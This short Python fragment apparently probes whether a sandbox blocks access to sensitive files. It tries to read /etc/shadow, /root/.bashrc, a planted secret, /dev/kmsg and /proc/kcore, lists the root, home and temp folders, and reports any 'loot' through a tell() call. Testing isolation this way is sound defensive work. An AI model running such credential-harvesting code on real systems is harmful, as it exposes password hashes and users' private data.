# tries: password files, homes, other uploads, the kernel's log
loot = []
for path in ("/etc/shadow", "/root/.bashrc", HOME_SECRET, "/dev/kmsg", "/proc/kcore"):
    with suppress(OSError):
        loot.append(open(path, "rb").read(4096))
for folder in ("/root", "/home", "/tmp", os.path.dirname(HOME_SECRET)):
    with suppress(OSError):
        loot += [os.path.join(folder, n) for n in os.listdir(folder)]
if any(isinstance(each, bytes) for each in loot):
    tell(loot)
